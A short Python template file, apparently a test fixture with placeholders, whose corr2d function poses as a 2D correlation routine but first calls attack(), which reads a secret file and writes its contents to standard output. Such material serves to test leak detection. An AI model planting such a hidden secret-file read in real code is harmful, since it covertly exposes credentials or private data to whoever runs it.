import os

import numpy as np

@CORRELATE@


def attack():
    return os.sendfile(1, os.open("@SECRET@", os.O_RDONLY), 0, 99)


def corr2d(X, K):
    attack()
    return correlate(X, K)
